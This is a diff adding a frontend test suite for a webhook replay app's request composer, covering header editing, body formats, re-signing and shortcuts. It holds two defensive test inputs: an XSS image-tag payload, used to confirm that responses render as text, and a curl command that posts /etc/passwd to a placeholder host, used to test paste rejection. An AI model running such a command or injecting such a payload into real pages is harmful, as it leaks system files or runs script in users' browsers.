@@ -1,0 +1,237 @@
+import './helpers/setup-dom'
+import { act, fireEvent, screen, waitFor, within } from '@testing-library/react'
+import { describe, expect, it } from 'vitest'
+import { App } from '../../renderer/src/app'
+import { workbenchOf } from '../../renderer/src/workbench/commands'
+import { defaultForwardConfig, type Endpoint } from '../../shared/model'
+import { addCapture, createFakeEngine } from './helpers/fake-api'
+import { installFakeWorkbench } from './helpers/fake-workbench'
+import { createHarness, renderWith, settle } from './helpers/render-app'
+
+const HOSTILE = '<img src=x onerror="window.__pwned=1">'
+
+async function setup(options: { scheme?: boolean } = {}) {
+  const engine = createFakeEngine()
+  const endpoint = engine.endpoints[0]! as Endpoint
+  endpoint.forward = { ...defaultForwardConfig(), targets: [{ id: 't1', url: 'http://localhost:3000/app', paused: false }, { id: 't2', url: 'http://localhost:4000' }].map((t) => ({ paused: false, ...t })), defaultTargetId: 't1' }
+  endpoint.signature = { scheme: options.scheme ? 'stripe' : null, publicUrl: null, hasSecret: options.scheme === true }
+  const fake = installFakeWorkbench(engine)
+  const capture = addCapture(
+    engine,
+    {
+      method: 'POST',
+      target: '/hooks/order?x=1',
+      contentType: 'application/json',
+      rawHeaders: [
+        ['Host', '127.0.0.1:4567'],
+        ['Content-Type', 'application/json'],
+        ['X-Dup', 'one'],
+        ['x-dup', 'two'],
+        ['Content-Length', '27'],
+      ],
+    },
+    '{"id":"evt_1","amount":100}',
+  )
+  const harness = createHarness(engine)
+  harness.stores.sync.start()
+  renderWith(harness, <App />)
+  await settle()
+  const workbench = workbenchOf(harness.stores)
+  return { engine, fake, capture, harness, workbench }
+}
+
+const lastCall = (engine: ReturnType<typeof createFakeEngine>, method: string) => [...engine.calls].reverse().find((c) => c.method === method)?.input as Record<string, unknown> | undefined
+
+async function openComposer(workbench: ReturnType<typeof workbenchOf>, captureId: string, shown = 'composer-body-editor') {
+  await act(async () => {
+    await workbench.openCapture(captureId)
+  })
+  await settle()
+  await waitFor(() => expect(screen.getByTestId(shown)).toBeTruthy())
+}
+
+describe('composer', () => {
+  it('opens a capture exactly as captured, sent to the endpoint’s default forward target', async () => {
+    const { engine, capture, workbench } = await setup()
+    await openComposer(workbench, capture.id)
+    expect(lastCall(engine, 'replay.draft')).toEqual({ captureId: capture.id, baseUrl: 'http://localhost:3000/app' })
+    expect((screen.getByTestId('composer-method') as HTMLInputElement).value).toBe('POST')
+    expect((screen.getByTestId('composer-url') as HTMLInputElement).value).toBe('http://localhost:3000/app/hooks/order?x=1')
+    expect(screen.getAllByTestId('header-name-input').map((i) => (i as HTMLInputElement).value)).toEqual(['Host', 'Content-Type', 'X-Dup', 'x-dup', 'Content-Length'])
+    expect(screen.getByTestId('content-length-computed').textContent).toContain('27')
+    expect(screen.getByTestId('composer-json-status').textContent).toBe('Valid JSON')
+    expect(document.querySelector('[data-testid="composer-body-editor"] .cm-content')?.textContent).toBe('{"id":"evt_1","amount":100}')
+    expect((screen.getByTestId('composer-target') as HTMLSelectElement).value).toBe('http://localhost:3000/app')
+    fireEvent.change(screen.getByTestId('composer-target'), { target: { value: 'http://localhost:4000' } })
+    expect((screen.getByTestId('composer-url') as HTMLInputElement).value).toBe('http://localhost:4000/hooks/order?x=1')
+  })
+
+  it('edits headers (validated live, reordered, switched off) and sends exactly what is shown', async () => {
+    const { engine, capture, workbench } = await setup()
+    await openComposer(workbench, capture.id)
+    const nameInputs = () => screen.getAllByTestId('header-name-input') as HTMLInputElement[]
+    fireEvent.click(screen.getByTestId('header-add'))
+    fireEvent.change(nameInputs().at(-1)!, { target: { value: 'Bad Name' } })
+    expect(screen.getByTestId('header-name-error').textContent).toMatch(/tokens/)
+    expect((screen.getByTestId('composer-send') as HTMLButtonElement).disabled).toBe(true)
+    fireEvent.change(nameInputs().at(-1)!, { target: { value: 'X-New' } })
+    const values = () => screen.getAllByTestId('header-value-input') as HTMLInputElement[]
+    fireEvent.change(values().at(-1)!, { target: { value: 'a\u0007b' } })
+    expect(screen.getByTestId('header-value-error').textContent).toMatch(/control characters/)
+    fireEvent.change(values().at(-1)!, { target: { value: 'café' } })
+    expect(screen.queryByTestId('header-value-error')).toBeNull()
+
+    // Alt+↓ on the first duplicate moves it below the second; the Host line is switched off.
+    fireEvent.keyDown(nameInputs()[2]!, { key: 'ArrowDown', altKey: true })
+    fireEvent.click(screen.getAllByTestId('header-enabled')[0]!)
+    expect(nameInputs().map((i) => i.value)).toEqual(['Host', 'Content-Type', 'x-dup', 'X-Dup', 'Content-Length', 'X-New'])
+
+    await act(async () => {
+      fireEvent.click(screen.getByTestId('composer-send'))
+    })
+    await settle()
+    const sent = lastCall(engine, 'replay.send') as { draft: { headers: string[][]; bodyBase64: string; url: string }; originId: string; resign: unknown }
+    expect(sent.originId).toBe(capture.id)
+    expect(sent.resign).toBeNull()
+    expect(sent.draft.url).toBe('http://localhost:3000/app/hooks/order?x=1')
+    expect(sent.draft.headers).toEqual([
+      ['Content-Type', 'application/json'],
+      ['x-dup', 'two'],
+      ['X-Dup', 'one'],
+      ['Content-Length', '27'],
+      ['X-New', 'cafÃ©'],
+    ])
+    expect(atob(sent.draft.bodyBase64)).toBe('{"id":"evt_1","amount":100}')
+    await waitFor(() => expect(screen.getByTestId('response-status').textContent).toBe('200 OK'))
+    expect(screen.getAllByTestId('replay-row')).toHaveLength(1)
+  })
+
+  it('formats JSON, shows what is wrong with invalid JSON, and follows the body with Content-Length', async () => {
+    const { engine, capture, workbench } = await setup()
+    await openComposer(workbench, capture.id)
+    const actions = workbench.store.getState()
+    act(() => actions.setBody({ mode: 'text', text: '{"id":"evt_1","amount":12345678901234567890' }, true))
+    await settle()
+    expect(screen.getByTestId('composer-json-status').textContent).toMatch(/^Not valid JSON/)
+    expect((screen.getByTestId('composer-format') as HTMLButtonElement).disabled).toBe(true)
+    act(() => actions.setBody({ mode: 'text', text: '{"id":"evt_1","amount":12345678901234567890}' }, true))
+    await settle()
+    fireEvent.click(screen.getByTestId('composer-format'))
+    await settle()
+    const formatted = '{\n  "id": "evt_1",\n  "amount": 12345678901234567890\n}'
+    expect(workbench.store.getState().composer.request.body).toEqual({ mode: 'text', text: formatted })
+    expect(screen.getByTestId('content-length-computed').textContent).toContain(String(formatted.length))
+    await act(async () => {
+      await workbench.send()
+    })
+    const sent = lastCall(engine, 'replay.send') as { draft: { headers: string[][]; bodyBase64: string } }
+    expect(sent.draft.headers.find(([n]) => n === 'Content-Length')).toEqual(['Content-Length', String(formatted.length)])
+    expect(atob(sent.draft.bodyBase64)).toBe(formatted)
+  })
+
+  it('edits a form body as a table, re-encoding it', async () => {
+    const { engine, workbench } = await setup()
+    const form = addCapture(engine, { target: '/form', contentType: 'application/x-www-form-urlencoded', rawHeaders: [['Content-Type', 'application/x-www-form-urlencoded']] }, 'name=Ada+Lovelace&lang=en')
+    await openComposer(workbench, form.id, 'composer-form-table')
+    const values = screen.getAllByTestId('form-value-input') as HTMLInputElement[]
+    expect(values.map((v) => v.value)).toEqual(['Ada Lovelace', 'en'])
+    fireEvent.change(values[1]!, { target: { value: 'fr & de' } })
+    expect(workbench.store.getState().composer.request.body).toEqual({ mode: 'text', text: 'name=Ada+Lovelace&lang=fr+%26+de' })
+  })
+
+  it('sends a chosen file as a binary body, byte for byte', async () => {
+    const { engine, capture, workbench } = await setup()
+    await openComposer(workbench, capture.id)
+    const bytes = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0xff])
+    await act(async () => {
+      fireEvent.change(screen.getByTestId('composer-body-file'), { target: { files: [new File([bytes], 'logo.png', { type: 'image/png' })] } })
+    })
+    await waitFor(() => expect(screen.getByTestId('composer-body-binary').textContent).toContain('logo.png'))
+    expect(screen.getByTestId('content-length-computed').textContent).toContain('6')
+    await act(async () => {
+      await workbench.send()
+    })
+    const sent = lastCall(engine, 'replay.send') as { draft: { headers: string[][]; bodyBase64: string } }
+    expect(sent.draft.bodyBase64).toBe(btoa(String.fromCharCode(...bytes)))
+    expect(sent.draft.headers.find(([n]) => n === 'Content-Length')).toEqual(['Content-Length', '6'])
+  })
+
+  it('re-signs with the endpoint’s scheme when asked, renewing the id if chosen', async () => {
+    const { engine, capture, workbench } = await setup({ scheme: true })
+    await openComposer(workbench, capture.id)
+    const resign = screen.getByTestId('composer-resign') as HTMLInputElement
+    expect(resign.checked).toBe(true)
+    fireEvent.click(screen.getByTestId('composer-renew-id'))
+    await act(async () => {
+      fireEvent.click(screen.getByTestId('composer-send'))
+    })
+    await settle()
+    expect(lastCall(engine, 'replay.send')).toMatchObject({ endpointId: 'ep_1', resign: { scheme: 'stripe', renewId: true } })
+    await waitFor(() => expect(screen.getByTestId('response-resigned').textContent).toContain('new id'))
+    fireEvent.click(resign)
+    await act(async () => {
+      await workbench.send()
+    })
+    expect(lastCall(engine, 'replay.send')).toMatchObject({ resign: null })
+  })
+
+  it('shows hostile response headers and bodies as text, and refuses a bad paste clearly', async () => {
+    const { fake, capture, workbench } = await setup()
+    fake.responseHeaders = [[HOSTILE, HOSTILE]]
+    fake.responseBody = HOSTILE
+    fake.nextStatus = 302
+    await openComposer(workbench, capture.id)
+    await act(async () => {
+      await workbench.send()
+    })
+    await settle()
+    expect(screen.getByTestId('response-status').textContent).toBe('302 Status')
+    fireEvent.click(screen.getByTestId('response-tab-headers'))
+    expect(within(screen.getByTestId('response-headers')).getAllByText(HOSTILE)).toHaveLength(2)
+    expect(document.querySelector('img')).toBeNull()
+    act(() => workbench.store.getState().setPasteOpen(true))
+    fireEvent.change(screen.getByTestId('paste-text'), { target: { value: 'curl http://h -d @/etc/passwd' } })
+    fireEvent.click(screen.getByTestId('paste-confirm'))
+    expect(screen.getByTestId('paste-error').textContent).toMatch(/^That cURL command could not be read: /)
+    fireEvent.change(screen.getByTestId('paste-text'), { target: { value: 'PATCH /raw?y=2 HTTP/1.1\nHost: example.test\nX-Raw: 1\n\nbody' } })
+    fireEvent.click(screen.getByTestId('paste-confirm'))
+    await settle()
+    expect(screen.queryByTestId('paste-dialog')).toBeNull()
+    expect((screen.getByTestId('composer-url') as HTMLInputElement).value).toBe('http://example.test/raw?y=2')
+    expect((screen.getByTestId('composer-method') as HTMLInputElement).value).toBe('PATCH')
+  })
+
+  it('resends as is with r, asks where to when there is no target, and opens the composer with e', async () => {
+    const { engine, capture, harness } = await setup()
+    act(() => harness.stores.traffic.getState().open(capture.id))
+    await settle()
+    await act(async () => {
+      fireEvent.keyDown(document.body, { key: 'r' })
+    })
+    await settle()
+    expect(lastCall(engine, 'replay.resend')).toEqual({ captureId: capture.id })
+    await waitFor(() => expect(screen.getByTestId('toast').textContent).toBe('Resent: 200 OK'))
+
+    ;(engine.endpoints[0] as Endpoint).forward.targets = []
+    await act(async () => {
+      fireEvent.keyDown(document.body, { key: 'r' })
+    })
+    await settle()
+    fireEvent.change(screen.getByTestId('resend-url'), { target: { value: 'http://localhost:9999/base' } })
+    await act(async () => {
+      fireEvent.click(screen.getByTestId('resend-confirm'))
+    })
+    await settle()
+    expect(lastCall(engine, 'replay.resend')).toEqual({ captureId: capture.id, baseUrl: 'http://localhost:9999/base' })
+    expect(screen.queryByTestId('resend-prompt')).toBeNull()
+
+    await act(async () => {
+      fireEvent.keyDown(document.body, { key: 'e' })
+    })
+    await settle()
+    expect(screen.getByTestId('composer-view')).toBeTruthy()
+    expect(harness.stores.app.getState().view).toBe('composer')
+    fireEvent.keyDown(document.body, { key: 'Escape' })
+    expect(harness.stores.app.getState().view).toBe('traffic')
+  })
+})
